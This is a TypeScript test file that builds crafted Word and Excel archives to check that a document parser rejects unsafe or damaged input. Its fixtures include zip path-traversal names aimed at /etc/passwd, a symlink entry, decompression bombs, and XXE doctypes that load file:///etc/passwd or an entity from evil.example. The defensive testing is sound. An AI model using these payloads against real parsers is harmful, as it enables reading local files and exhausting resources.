import { zipOf, type ZipFile } from '../../src/kernel/zip.js';
import { mark, of, type Case } from './case.js';

const writeUp = of('writeUp');
const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const body = (text: string, before = '') =>
  `<?xml version="1.0"?>${before}<w:document ${w}><w:body><w:p><w:pPr><w:pStyle w:val="Title"/></w:pPr><w:r><w:t>${text}</w:t></w:r></w:p><w:p><w:r><w:t>Some words.</w:t></w:r></w:p></w:body></w:document>`;
/** A document of a word processor with these parts besides, or instead. */
function docx(more: readonly ZipFile[] = [], document = body('A title')): Buffer {
  return zipOf([{ name: '[Content_Types].xml', content: types }, { name: 'word/document.xml', content: document }, ...more]);
}
const central = Buffer.from('PK\x01\x02', 'latin1');
const local = Buffer.from('PK\x03\x04', 'latin1');
/** The same bytes with some changed in the n-th entry of the directory. */
function entry(archive: Buffer, n: number, change: (at: number, copy: Buffer) => void): Buffer {
  const copy = Buffer.from(archive);
  let at = -1;
  for (let i = 0; i <= n; i++) at = copy.indexOf(central, at + 1);
  change(at, copy);
  return copy;
}
const tail = (archive: Buffer, change: (at: number, copy: Buffer) => void): Buffer => {
  const copy = Buffer.from(archive);
  change(copy.length - 22, copy);
  return copy;
};
const unsafe = 'archiveUnsafe';

export function archiveCases(): Case[] {
  const whole = docx();
  const cases: Case[] = [writeUp('a document', whole, 'taken')];
  const harmless: [string, ZipFile[]][] = [
    ['with macros', [{ name: 'word/vbaProject.bin', content: mark }]],
    [
      'with a template from elsewhere',
      [
        {
          name: 'word/_rels/settings.xml.rels',
          content: `<Relationships><Relationship TargetMode="External" Target="https://evil.example/${mark}.dotm"/></Relationships>`,
        },
      ],
    ],
    ['with another file inside', [{ name: 'word/embeddings/oleObject1.bin', content: mark }]],
    ['with an archive inside', [{ name: 'word/embeddings/x.zip', content: zipOf([{ name: 'x', content: mark }]) }]],
    [
      'with its author',
      [
        {
          name: 'docProps/core.xml',
          content: `<cp:coreProperties xmlns:cp="x" xmlns:dc="y"><dc:creator>${mark}</dc:creator></cp:coreProperties>`,
        },
      ],
    ],
    ['with a thumbnail', [{ name: 'docProps/thumbnail.jpeg', content: mark }]],
    ['with a name of 255 letters', [{ name: 'x'.repeat(255), content: mark }]],
    ['with a name in Arabic', [{ name: 'word/صورة.bin', content: mark }]],
    [
      'with a name of Windows devices',
      [
        { name: 'word/CON', content: mark },
        { name: 'AUX.txt', content: mark },
      ],
    ],
  ];
  for (const [name, more] of harmless) cases.push(writeUp(`a document ${name}`, docx(more), 'taken'));
  const out = [
    '../x',
    '../../../../etc/passwd',
    'word/../../x',
    '..',
    'a/..',
    '/etc/passwd',
    '//server/share',
    'C:\\x',
    'c:/x',
    '..\\x',
    'word\\..\\..\\x',
    'word/x\0.xml',
    './../x',
  ];
  for (const name of out) cases.push(writeUp(`a document with the path ${JSON.stringify(name)}`, docx([{ name, content: mark }]), unsafe));
  cases.push(writeUp('a document with two texts of one name', docx([{ name: 'word/document.xml', content: body(mark) }]), unsafe));
  cases.push(
    writeUp(
      'a document with a link to another file',
      entry(docx([{ name: 'word/x', content: '/etc/passwd' }]), 2, (at, b) => b.writeUInt32LE(0o120777 * 0x10000, at + 38)),
      unsafe,
    ),
  );
  for (const megabytes of [1, 8, 40])
    cases.push(
      writeUp(
        `a document that swells to ${megabytes} MB`,
        docx([{ name: 'word/media/a.png', content: Buffer.alloc(megabytes * 1_000_000) }]),
        unsafe,
      ),
    );
  cases.push(writeUp('a text that swells', docx([], body(' '.repeat(20_000_000))), unsafe));
  const claims = Array.from({ length: 30 }, (_, i) => ({ name: `word/media/${i}.png`, content: `${i}`.repeat(50), stored: true as const }));
  let swollen = docx(claims);
  for (let i = 2; i < 32; i++)
    swollen = entry(swollen, i, (at, b) => void (b.writeUInt32LE(4_000_000, at + 24), b.writeUInt32LE(4_000_000, at + 20)));
  cases.push(writeUp('a document of which all parts together are too much', swollen, unsafe));
  const same = entry(docx(), 0, () => undefined);
  // Each is bounded by what the directory says of it, so nothing swells: what nobody asks for is not unpacked.
  cases.push(
    writeUp(
      'two entries over the same bytes',
      entry(same, 0, (at, b) => b.writeUInt32LE(b.readUInt32LE(b.indexOf(central, at + 1) + 42), at + 42)),
      'taken',
    ),
  );
  cases.push(
    writeUp('more than two thousand parts', docx(Array.from({ length: 2_000 }, (_, i) => ({ name: `x/${i}`, content: '' }))), unsafe),
  );
  const lies: [string, (at: number, b: Buffer) => void, string][] = [
    ['says it is shorter than it is', (at, b) => b.writeUInt32LE(10, at + 24), unsafe],
    ['says it is longer than it is', (at, b) => b.writeUInt32LE(b.readUInt32LE(at + 24) + 10, at + 24), 'damaged'],
    ['says it is nothing', (at, b) => b.writeUInt32LE(0, at + 24), unsafe],
    ['has another sum', (at, b) => b.writeUInt32LE(1, at + 16), 'damaged'],
    ['is locked', (at, b) => b.writeUInt16LE(1, at + 8), 'damaged'],
    ['is packed in a way that nobody knows', (at, b) => b.writeUInt16LE(99, at + 10), 'damaged'],
    ['lies behind the end', (at, b) => b.writeUInt32LE(b.length, at + 42), 'damaged'],
    ['lies inside another part', (at, b) => b.writeUInt32LE(5, at + 42), 'damaged'],
    ['has more bytes than the file', (at, b) => b.writeUInt32LE(0x7fffffff, at + 20), 'damaged'],
    ['points far beyond 4 GB', (at, b) => b.writeUInt32LE(0xffffffff, at + 42), 'damaged'],
  ];
  for (const [name, change, verdict] of lies) cases.push(writeUp(`a text that ${name}`, entry(whole, 1, change), verdict));
  const ends: [string, (at: number, b: Buffer) => void, string][] = [
    ['names more parts than there are', (at, b) => b.writeUInt16LE(9, at + 10), 'damaged'],
    ['names none', (at, b) => b.writeUInt16LE(0, at + 10), unsafe],
    ['lies somewhere else', (at, b) => b.writeUInt32LE(1, at + 16), 'damaged'],
    ['lies behind the end', (at, b) => b.writeUInt32LE(0xfffffff0, at + 16), 'damaged'],
    ['is one of very large archives', (at, b) => b.writeUInt16LE(0xffff, at + 10), unsafe],
    ['has a comment that is not there', (at, b) => b.writeUInt16LE(500, at + 20), 'taken'],
  ];
  for (const [name, change, verdict] of ends) cases.push(writeUp(`a directory that ${name}`, tail(whole, change), verdict));
  for (const part of [1, 2, 3, 4, 5, 6, 7])
    cases.push(writeUp(`${part}/8 of a document`, whole.subarray(0, (whole.length * part) >> 3), 'damaged'));
  cases.push(writeUp('the first four bytes of a document', local, 'damaged'));
  cases.push(writeUp('a document without its list of contents', zipOf([{ name: 'word/document.xml', content: body('A') }]), unsafe));
  cases.push(writeUp('a document without a text', zipOf([{ name: '[Content_Types].xml', content: types }]), 'kindUnknown'));
  const doctypes = [
    '<!DOCTYPE w:document>',
    '<!doctype x [<!ENTITY a "b">]>',
    `<!DOCTYPE x SYSTEM "file:///etc/passwd">`,
    '<!-- --><!DOCTYPE x>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x">%p;]>',
  ];
  for (const d of doctypes) cases.push(writeUp(`a text with ${d}`, docx([], body('A', d)), 'documentTypeNotAllowed'));
  const broken = [
    ['without an end', body('A').slice(0, -20)],
    ['with a tag that nothing closes', body('<b>A')],
    ['of no XML', 'words'],
  ] as const;
  for (const [name, text] of broken) cases.push(writeUp(`a text ${name}`, docx([], text), 'notXml'));
  for (const deep of [500, 20_000, 200_000])
    cases.push(
      writeUp(`a text of ${deep} tags within each other`, docx([], body(`${'<w:a>'.repeat(deep)}x${'</w:a>'.repeat(deep)}`)), 'refused'),
    );
  cases.push(writeUp('a text that speaks of a document type', docx([], body('A <![CDATA[<!DOCTYPE x>]]> in words')), 'taken'));
  const members = of('members');
  cases.push(
    members(
      'a workbook with a path that leads out',
      zipOf([
        { name: '[Content_Types].xml', content: types },
        { name: '../x', content: mark },
      ]),
      unsafe,
    ),
  );
  cases.push(members('a document as a workbook', whole, 'kindUnknown'));
  cases.push(
    members(
      'a workbook with macros alone',
      zipOf([
        { name: '[Content_Types].xml', content: types },
        { name: 'xl/vbaProject.bin', content: mark },
      ]),
      'kindUnknown',
    ),
  );
  return cases;
}
